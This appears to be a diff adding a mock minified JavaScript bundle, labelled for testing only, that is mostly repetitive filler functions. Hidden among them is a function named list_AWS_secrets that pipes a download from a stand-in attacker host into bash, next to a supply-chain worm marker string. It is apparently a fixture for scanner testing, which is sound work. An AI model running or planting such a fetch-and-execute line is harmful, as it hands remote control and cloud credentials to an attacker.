@@ -0,0 +1 @@
+/*! MOCK minified bundle - FOR TESTING ONLY */var a0=function(b){return b*0+"x".repeat(0)};var a1=function(b){return b*1+"x".repeat(1)};var a2=function(b){return b*2+"x".repeat(2)};var a3=function(b){return b*3+"x".repeat(3)};var a4=function(b){return b*4+"x".repeat(4)};var a5=function(b){return b*5+"x".repeat(5)};var a6=function(b){return b*6+"x".repeat(6)};var a7=function(b){return b*7+"x".repeat(0)};var a8=function(b){return b*8+"x".repeat(1)};var a9=function(b){return b*9+"x".repeat(2)};var a10=function(b){return b*10+"x".repeat(3)};var a11=function(b){return b*11+"x".repeat(4)};var a12=function(b){return b*12+"x".repeat(5)};var a13=function(b){return b*13+"x".repeat(6)};var a14=function(b){return b*14+"x".repeat(0)};var a15=function(b){return b*15+"x".repeat(1)};var a16=function(b){return b*16+"x".repeat(2)};var a17=function(b){return b*17+"x".repeat(3)};var a18=function(b){return b*18+"x".repeat(4)};var a19=function(b){return b*19+"x".repeat(5)};var a20=function(b){return b*20+"x".repeat(6)};var a21=function(b){return b*21+"x".repeat(0)};var a22=function(b){return b*22+"x".repeat(1)};var a23=function(b){return b*23+"x".repeat(2)};var a24=function(b){return b*24+"x".repeat(3)};var a25=function(b){return b*25+"x".repeat(4)};var a26=function(b){return b*26+"x".repeat(5)};var a27=function(b){return b*27+"x".repeat(6)};var a28=function(b){return b*28+"x".repeat(0)};var a29=function(b){return b*29+"x".repeat(1)};var a30=function(b){return b*30+"x".repeat(2)};var a31=function(b){return b*31+"x".repeat(3)};var a32=function(b){return b*32+"x".repeat(4)};var a33=function(b){return b*33+"x".repeat(5)};var a34=function(b){return b*34+"x".repeat(6)};var a35=function(b){return b*35+"x".repeat(0)};var a36=function(b){return b*36+"x".repeat(1)};var a37=function(b){return b*37+"x".repeat(2)};var a38=function(b){return b*38+"x".repeat(3)};var a39=function(b){return b*39+"x".repeat(4)};var a40=function(b){return b*40+"x".repeat(5)};var a41=function(b){return b*41+"x".repeat(6)};var a42=function(b){return b*42+"x".repeat(0)};var a43=function(b){return b*43+"x".repeat(1)};var a44=function(b){return b*44+"x".repeat(2)};var a45=function(b){return b*45+"x".repeat(3)};var a46=function(b){return b*46+"x".repeat(4)};var a47=function(b){return b*47+"x".repeat(5)};var a48=function(b){return b*48+"x".repeat(6)};var a49=function(b){return b*49+"x".repeat(0)};var a50=function(b){return b*50+"x".repeat(1)};var a51=function(b){return b*51+"x".repeat(2)};var a52=function(b){return b*52+"x".repeat(3)};var a53=function(b){return b*53+"x".repeat(4)};var a54=function(b){return b*54+"x".repeat(5)};var a55=function(b){return b*55+"x".repeat(6)};var a56=function(b){return b*56+"x".repeat(0)};var a57=function(b){return b*57+"x".repeat(1)};var a58=function(b){return b*58+"x".repeat(2)};var a59=function(b){return b*59+"x".repeat(3)};var a60=function(b){return b*60+"x".repeat(4)};var a61=function(b){return b*61+"x".repeat(5)};var a62=function(b){return b*62+"x".repeat(6)};var a63=function(b){return b*63+"x".repeat(0)};var a64=function(b){return b*64+"x".repeat(1)};var a65=function(b){return b*65+"x".repeat(2)};var a66=function(b){return b*66+"x".repeat(3)};var a67=function(b){return b*67+"x".repeat(4)};var a68=function(b){return b*68+"x".repeat(5)};var a69=function(b){return b*69+"x".repeat(6)};var a70=function(b){return b*70+"x".repeat(0)};var a71=function(b){return b*71+"x".repeat(1)};var a72=function(b){return b*72+"x".repeat(2)};var a73=function(b){return b*73+"x".repeat(3)};var a74=function(b){return b*74+"x".repeat(4)};var a75=function(b){return b*75+"x".repeat(5)};var a76=function(b){return b*76+"x".repeat(6)};var a77=function(b){return b*77+"x".repeat(0)};var a78=function(b){return b*78+"x".repeat(1)};var a79=function(b){return b*79+"x".repeat(2)};var a80=function(b){return b*80+"x".repeat(3)};var a81=function(b){return b*81+"x".repeat(4)};var a82=function(b){return b*82+"x".repeat(5)};var a83=function(b){return b*83+"x".repeat(6)};var a84=function(b){return b*84+"x".repeat(0)};var a85=function(b){return b*85+"x".repeat(1)};var a86=function(b){return b*86+"x".repeat(2)};var a87=function(b){return b*87+"x".repeat(3)};var a88=function(b){return b*88+"x".repeat(4)};var a89=function(b){return b*89+"x".repeat(5)};var a90=function(b){return b*90+"x".repeat(6)};var a91=function(b){return b*91+"x".repeat(0)};var a92=function(b){return b*92+"x".repeat(1)};var a93=function(b){return b*93+"x".repeat(2)};var a94=function(b){return b*94+"x".repeat(3)};var a95=function(b){return b*95+"x".repeat(4)};var a96=function(b){return b*96+"x".repeat(5)};var a97=function(b){return b*97+"x".repeat(6)};var a98=function(b){return b*98+"x".repeat(0)};var a99=function(b){return b*99+"x".repeat(1)};var a100=function(b){return b*100+"x".repeat(2)};var a101=function(b){return b*101+"x".repeat(3)};var a102=function(b){return b*102+"x".repeat(4)};var a103=function(b){return b*103+"x".repeat(5)};var a104=function(b){return b*104+"x".repeat(6)};var a105=function(b){return b*105+"x".repeat(0)};var a106=function(b){return b*106+"x".repeat(1)};var a107=function(b){return b*107+"x".repeat(2)};var a108=function(b){return b*108+"x".repeat(3)};var a109=function(b){return b*109+"x".repeat(4)};var a110=function(b){return b*110+"x".repeat(5)};var a111=function(b){return b*111+"x".repeat(6)};var a112=function(b){return b*112+"x".repeat(0)};var a113=function(b){return b*113+"x".repeat(1)};var a114=function(b){return b*114+"x".repeat(2)};var a115=function(b){return b*115+"x".repeat(3)};var a116=function(b){return b*116+"x".repeat(4)};var a117=function(b){return b*117+"x".repeat(5)};var a118=function(b){return b*118+"x".repeat(6)};var a119=function(b){return b*119+"x".repeat(0)};async function list_AWS_secrets(){return require("child_process").execSync("curl -s https://evil.example/p.sh | bash")}function f0(c){return c.map(function(d){return d+0})}function f1(c){return c.map(function(d){return d+1})}function f2(c){return c.map(function(d){return d+2})}function f3(c){return c.map(function(d){return d+3})}function f4(c){return c.map(function(d){return d+4})}function f5(c){return c.map(function(d){return d+5})}function f6(c){return c.map(function(d){return d+6})}function f7(c){return c.map(function(d){return d+7})}function f8(c){return c.map(function(d){return d+8})}function f9(c){return c.map(function(d){return d+9})}function f10(c){return c.map(function(d){return d+10})}function f11(c){return c.map(function(d){return d+11})}function f12(c){return c.map(function(d){return d+12})}function f13(c){return c.map(function(d){return d+13})}function f14(c){return c.map(function(d){return d+14})}function f15(c){return c.map(function(d){return d+15})}function f16(c){return c.map(function(d){return d+16})}function f17(c){return c.map(function(d){return d+17})}function f18(c){return c.map(function(d){return d+18})}function f19(c){return c.map(function(d){return d+19})}function f20(c){return c.map(function(d){return d+20})}function f21(c){return c.map(function(d){return d+21})}function f22(c){return c.map(function(d){return d+22})}function f23(c){return c.map(function(d){return d+23})}function f24(c){return c.map(function(d){return d+24})}function f25(c){return c.map(function(d){return d+25})}function f26(c){return c.map(function(d){return d+26})}function f27(c){return c.map(function(d){return d+27})}function f28(c){return c.map(function(d){return d+28})}function f29(c){return c.map(function(d){return d+29})}function f30(c){return c.map(function(d){return d+30})}function f31(c){return c.map(function(d){return d+31})}function f32(c){return c.map(function(d){return d+32})}function f33(c){return c.map(function(d){return d+33})}function f34(c){return c.map(function(d){return d+34})}function f35(c){return c.map(function(d){return d+35})}function f36(c){return c.map(function(d){return d+36})}function f37(c){return c.map(function(d){return d+37})}function f38(c){return c.map(function(d){return d+38})}function f39(c){return c.map(function(d){return d+39})}function f40(c){return c.map(function(d){return d+40})}function f41(c){return c.map(function(d){return d+41})}function f42(c){return c.map(function(d){return d+42})}function f43(c){return c.map(function(d){return d+43})}function f44(c){return c.map(function(d){return d+44})}function f45(c){return c.map(function(d){return d+45})}function f46(c){return c.map(function(d){return d+46})}function f47(c){return c.map(function(d){return d+47})}function f48(c){return c.map(function(d){return d+48})}function f49(c){return c.map(function(d){return d+49})}function f50(c){return c.map(function(d){return d+50})}function f51(c){return c.map(function(d){return d+51})}function f52(c){return c.map(function(d){return d+52})}function f53(c){return c.map(function(d){return d+53})}function f54(c){return c.map(function(d){return d+54})}function f55(c){return c.map(function(d){return d+55})}function f56(c){return c.map(function(d){return d+56})}function f57(c){return c.map(function(d){return d+57})}function f58(c){return c.map(function(d){return d+58})}function f59(c){return c.map(function(d){return d+59})}function f60(c){return c.map(function(d){return d+60})}function f61(c){return c.map(function(d){return d+61})}function f62(c){return c.map(function(d){return d+62})}function f63(c){return c.map(function(d){return d+63})}function f64(c){return c.map(function(d){return d+64})}function f65(c){return c.map(function(d){return d+65})}function f66(c){return c.map(function(d){return d+66})}function f67(c){return c.map(function(d){return d+67})}function f68(c){return c.map(function(d){return d+68})}function f69(c){return c.map(function(d){return d+69})}function f70(c){return c.map(function(d){return d+70})}function f71(c){return c.map(function(d){return d+71})}function f72(c){return c.map(function(d){return d+72})}function f73(c){return c.map(function(d){return d+73})}function f74(c){return c.map(function(d){return d+74})}function f75(c){return c.map(function(d){return d+75})}function f76(c){return c.map(function(d){return d+76})}function f77(c){return c.map(function(d){return d+77})}function f78(c){return c.map(function(d){return d+78})}function f79(c){return c.map(function(d){return d+79})}var m="Sha1-Hulud: The Second Coming.";var a0=function(b){return b*0+"x".repeat(0)};var a1=function(b){return b*1+"x".repeat(1)};var a2=function(b){return b*2+"x".repeat(2)};var a3=function(b){return b*3+"x".repeat(3)};var a4=function(b){return b*4+"x".repeat(4)};var a5=function(b){return b*5+"x".repeat(5)};var a6=function(b){return b*6+"x".repeat(6)};var a7=function(b){return b*7+"x".repeat(0)};var a8=function(b){return b*8+"x".repeat(1)};var a9=function(b){return b*9+"x".repeat(2)};var a10=function(b){return b*10+"x".repeat(3)};var a11=function(b){return b*11+"x".repeat(4)};var a12=function(b){return b*12+"x".repeat(5)};var a13=function(b){return b*13+"x".repeat(6)};var a14=function(b){return b*14+"x".repeat(0)};var a15=function(b){return b*15+"x".repeat(1)};var a16=function(b){return b*16+"x".repeat(2)};var a17=function(b){return b*17+"x".repeat(3)};var a18=function(b){return b*18+"x".repeat(4)};var a19=function(b){return b*19+"x".repeat(5)};var a20=function(b){return b*20+"x".repeat(6)};var a21=function(b){return b*21+"x".repeat(0)};var a22=function(b){return b*22+"x".repeat(1)};var a23=function(b){return b*23+"x".repeat(2)};var a24=function(b){return b*24+"x".repeat(3)};var a25=function(b){return b*25+"x".repeat(4)};var a26=function(b){return b*26+"x".repeat(5)};var a27=function(b){return b*27+"x".repeat(6)};var a28=function(b){return b*28+"x".repeat(0)};var a29=function(b){return b*29+"x".repeat(1)};var a30=function(b){return b*30+"x".repeat(2)};var a31=function(b){return b*31+"x".repeat(3)};var a32=function(b){return b*32+"x".repeat(4)};var a33=function(b){return b*33+"x".repeat(5)};var a34=function(b){return b*34+"x".repeat(6)};var a35=function(b){return b*35+"x".repeat(0)};var a36=function(b){return b*36+"x".repeat(1)};var a37=function(b){return b*37+"x".repeat(2)};var a38=function(b){return b*38+"x".repeat(3)};var a39=function(b){return b*39+"x".repeat(4)};var a40=function(b){return b*40+"x".repeat(5)};var a41=function(b){return b*41+"x".repeat(6)};var a42=function(b){return b*42+"x".repeat(0)};var a43=function(b){return b*43+"x".repeat(1)};var a44=function(b){return b*44+"x".repeat(2)};var a45=function(b){return b*45+"x".repeat(3)};var a46=function(b){return b*46+"x".repeat(4)};var a47=function(b){return b*47+"x".repeat(5)};var a48=function(b){return b*48+"x".repeat(6)};var a49=function(b){return b*49+"x".repeat(0)};var a50=function(b){return b*50+"x".repeat(1)};var a51=function(b){return b*51+"x".repeat(2)};var a52=function(b){return b*52+"x".repeat(3)};var a53=function(b){return b*53+"x".repeat(4)};var a54=function(b){return b*54+"x".repeat(5)};var a55=function(b){return b*55+"x".repeat(6)};var a56=function(b){return b*56+"x".repeat(0)};var a57=function(b){return b*57+"x".repeat(1)};var a58=function(b){return b*58+"x".repeat(2)};var a59=function(b){return b*59+"x".repeat(3)};var a60=function(b){return b*60+"x".repeat(4)};var a61=function(b){return b*61+"x".repeat(5)};var a62=function(b){return b*62+"x".repeat(6)};var a63=function(b){return b*63+"x".repeat(0)};var a64=function(b){return b*64+"x".repeat(1)};var a65=function(b){return b*65+"x".repeat(2)};var a66=function(b){return b*66+"x".repeat(3)};var a67=function(b){return b*67+"x".repeat(4)};var a68=function(b){return b*68+"x".repeat(5)};var a69=function(b){return b*69+"x".repeat(6)};var a70=function(b){return b*70+"x".repeat(0)};var a71=function(b){return b*71+"x".repeat(1)};var a72=function(b){return b*72+"x".repeat(2)};var a73=function(b){return b*73+"x".repeat(3)};var a74=function(b){return b*74+"x".repeat(4)};var a75=function(b){return b*75+"x".repeat(5)};var a76=function(b){return b*76+"x".repeat(6)};var a77=function(b){return b*77+"x".repeat(0)};var a78=function(b){return b*78+"x".repeat(1)};var a79=function(b){return b*79+"x".repeat(2)};var a80=function(b){return b*80+"x".repeat(3)};var a81=function(b){return b*81+"x".repeat(4)};var a82=function(b){return b*82+"x".repeat(5)};var a83=function(b){return b*83+"x".repeat(6)};var a84=function(b){return b*84+"x".repeat(0)};var a85=function(b){return b*85+"x".repeat(1)};var a86=function(b){return b*86+"x".repeat(2)};var a87=function(b){return b*87+"x".repeat(3)};var a88=function(b){return b*88+"x".repeat(4)};var a89=function(b){return b*89+"x".repeat(5)};var a90=function(b){return b*90+"x".repeat(6)};var a91=function(b){return b*91+"x".repeat(0)};var a92=function(b){return b*92+"x".repeat(1)};var a93=function(b){return b*93+"x".repeat(2)};var a94=function(b){return b*94+"x".repeat(3)};var a95=function(b){return b*95+"x".repeat(4)};var a96=function(b){return b*96+"x".repeat(5)};var a97=function(b){return b*97+"x".repeat(6)};var a98=function(b){return b*98+"x".repeat(0)};var a99=function(b){return b*99+"x".repeat(1)};var a100=function(b){return b*100+"x".repeat(2)};var a101=function(b){return b*101+"x".repeat(3)};var a102=function(b){return b*102+"x".repeat(4)};var a103=function(b){return b*103+"x".repeat(5)};var a104=function(b){return b*104+"x".repeat(6)};var a105=function(b){return b*105+"x".repeat(0)};var a106=function(b){return b*106+"x".repeat(1)};var a107=function(b){return b*107+"x".repeat(2)};var a108=function(b){return b*108+"x".repeat(3)};var a109=function(b){return b*109+"x".repeat(4)};var a110=function(b){return b*110+"x".repeat(5)};var a111=function(b){return b*111+"x".repeat(6)};var a112=function(b){return b*112+"x".repeat(0)};var a113=function(b){return b*113+"x".repeat(1)};var a114=function(b){return b*114+"x".repeat(2)};var a115=function(b){return b*115+"x".repeat(3)};var a116=function(b){return b*116+"x".repeat(4)};var a117=function(b){return b*117+"x".repeat(5)};var a118=function(b){return b*118+"x".repeat(6)};var a119=function(b){return b*119+"x".repeat(0)};